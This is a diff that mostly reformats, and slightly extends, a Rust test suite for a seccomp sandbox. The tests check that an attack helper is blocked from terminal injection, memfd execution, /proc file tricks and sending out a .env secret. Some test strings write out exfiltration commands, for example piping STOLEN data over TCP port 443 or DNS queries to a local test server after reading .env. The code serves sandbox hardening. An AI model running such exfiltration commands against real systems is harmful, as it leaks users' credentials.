@@ -20,9 +20,18 @@ fn attack(f: &Fixture, args: &[&str]) -> std::process::Output {
 fn assert_killed(name: &str) {
     let f = Fixture::new(name).with_attack();
     let o = attack(&f, &[name]);
-    assert_eq!(code(&o), SIGSYS_EXIT, "{name} must be killed by the filter\n{}", show(&o));
+    assert_eq!(
+        code(&o),
+        SIGSYS_EXIT,
+        "{name} must be killed by the filter\n{}",
+        show(&o)
+    );
     assert!(!stdout(&o).contains("ok="), "{}", show(&o));
-    assert!(stderr(&o).contains("SIGSYS"), "the user is told why\n{}", show(&o));
+    assert!(
+        stderr(&o).contains("SIGSYS"),
+        "the user is told why\n{}",
+        show(&o)
+    );
 }
 
 #[test]
@@ -61,7 +70,11 @@ fn argument_truncation_cannot_smuggle_tiocsti() {
     let o = attack(&f, &["truncation"]);
     assert_eq!(code(&o), 0, "{}", show(&o));
     let out = stdout(&o);
-    for what in ["ioctl TIOCSTI|1<<32: errno=13", "ioctl TIOCSTI: errno=13", "ioctl TIOCLINUX: errno=13"] {
+    for what in [
+        "ioctl TIOCSTI|1<<32: errno=13",
+        "ioctl TIOCSTI: errno=13",
+        "ioctl TIOCLINUX: errno=13",
+    ] {
         assert!(out.contains(what), "missing `{what}`\n{}", show(&o));
     }
 }
@@ -72,7 +85,11 @@ fn clone3_gets_enosys_and_threads_still_work() {
     let o = attack(&f, &["clone3"]);
     let out = stdout(&o);
     assert!(out.contains("clone3: errno=38"), "{}", show(&o));
-    assert!(out.contains("pthread_create: ok") && out.contains("fork: ok"), "{}", show(&o));
+    assert!(
+        out.contains("pthread_create: ok") && out.contains("fork: ok"),
+        "{}",
+        show(&o)
+    );
 }
 
 #[test]
@@ -130,8 +147,16 @@ fn openat2_and_proc_tricks_cannot_reach_the_secret() {
     assert_eq!(code(&o), 0, "{}", show(&o));
     let out = stdout(&o);
     assert!(out.contains("openat2: leaked=0"), "{}", show(&o));
-    // Every attempt failed outright (none returned a descriptor).
-    assert!(!out.lines().any(|l| l.contains(": ok=")), "{}", show(&o));
+    // Every attempt to open it for reading failed outright. (An O_PATH handle is
+    // only a look, which the profile grants everywhere; re-opening it for reading
+    // is decided on what it names, and refused.)
+    assert!(
+        !out.lines()
+            .any(|l| l.contains(": ok=") && !l.starts_with("O_PATH link")),
+        "{}",
+        show(&o)
+    );
+    assert!(out.contains("reopen via /proc/self/fd: errno=1"), "{}", show(&o));
 }
 
 #[test]
@@ -141,7 +166,11 @@ fn memfd_and_tmp_programs_cannot_be_executed() {
     let o = attack(&f, &["memfd-exec", copy]);
     let _ = std::fs::remove_file(copy);
     let out = stdout(&o);
-    for what in ["execveat(memfd, AT_EMPTY_PATH): errno", "execve(/proc/self/fd/N): errno", "execve(copy in tmp): errno"] {
+    for what in [
+        "execveat(memfd, AT_EMPTY_PATH): errno",
+        "execve(/proc/self/fd/N): errno",
+        "execve(copy in tmp): errno",
+    ] {
         assert!(out.contains(what), "missing `{what}`\n{}", show(&o));
     }
     assert!(out.contains("still here"), "{}", show(&o));
@@ -236,7 +265,9 @@ fn exfiltration_by_a_child_process_after_the_parent_read_a_secret() {
     assert!(stdout(&o).contains("tcp send: ok="), "{}", show(&o));
     assert_eq!(server.received(), "hello-before");
     // The shell reads the secret; then a child process tries.
-    let o = f.sh(&format!("cat .env >/dev/null && ./attack fork-then ./attack tcp {ip} 443 STOLEN"));
+    let o = f.sh(&format!(
+        "cat .env >/dev/null && ./attack fork-then ./attack tcp {ip} 443 STOLEN"
+    ));
     // The tainted state allows no sockets at all.
     assert!(stdout(&o).contains("socket: errno=1"), "{}", show(&o));
     assert_eq!(server.received(), "", "the child reached the server");
@@ -254,7 +285,11 @@ fn exfiltration_by_udp_after_reading_a_secret() {
     let o = attack(&f, &["udp", ip, "53", "STOLEN", ".env"]);
     let out = stdout(&o);
     assert!(out.contains("open secret: ok="), "{}", show(&o));
-    assert!(out.contains("udp sendto: errno=1") && out.contains("udp sendmmsg: errno=1"), "{}", show(&o));
+    assert!(
+        out.contains("udp sendto: errno=1") && out.contains("udp sendmmsg: errno=1"),
+        "{}",
+        show(&o)
+    );
     assert!(server.received().is_empty());
 }
 
@@ -266,7 +301,9 @@ fn exfiltration_by_dns_after_reading_a_secret() {
     let f = with_dotenv("dns");
     // Sockets made before the secret is read: the query and the connection are
     // refused after it; and no new socket can be made at all.
-    let o = f.sh(&format!("./attack udp {ip} 53 STOLEN.example.com .env; ./attack udp {ip} 53 AGAIN"));
+    let o = f.sh(&format!(
+        "./attack udp {ip} 53 STOLEN.example.com .env; ./attack udp {ip} 53 AGAIN"
+    ));
     let out = stdout(&o);
     assert!(out.contains("udp sendto: errno=1"), "{}", show(&o));
     assert!(out.contains("udp sendmmsg: errno=1"), "{}", show(&o));
@@ -310,9 +347,11 @@ fn if_the_monitor_dies_the_sandbox_gains_nothing() {
     let f = Fixture::new("monitordeath");
     // The script outlives the monitor: after it is killed, every call the filter
     // routes to the monitor (opens, execs) must fail; builtins still print.
-    let script = "sleep 2; cat ok.txt && echo READ-AFTER-DEATH; echo x > new.txt && echo WROTE-AFTER-DEATH; echo END";
+    let script =
+        "sleep 2; cat ok.txt && echo READ-AFTER-DEATH; echo x > new.txt && echo WROTE-AFTER-DEATH; echo END";
     let mut cmd = f.command(&[], &["/bin/sh", "-c", script]);
-    cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
     let child = cmd.spawn().unwrap();
     std::thread::sleep(Duration::from_millis(700));
     unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
@@ -325,7 +364,11 @@ fn if_the_monitor_dies_the_sandbox_gains_nothing() {
     while !rest.contains("END") && std::time::Instant::now() < deadline {
         std::thread::sleep(Duration::from_millis(100));
     }
-    assert!(rest.contains("END"), "the shell went on after the monitor died\n{}", show(&o));
+    assert!(
+        rest.contains("END"),
+        "the shell went on after the monitor died\n{}",
+        show(&o)
+    );
     assert!(!rest.contains("READ-AFTER-DEATH"), "{}", show(&o));
     assert!(!rest.contains("WROTE-AFTER-DEATH"), "{}", show(&o));
     assert!(!rest.contains("ordinary workspace file"), "{}", show(&o));
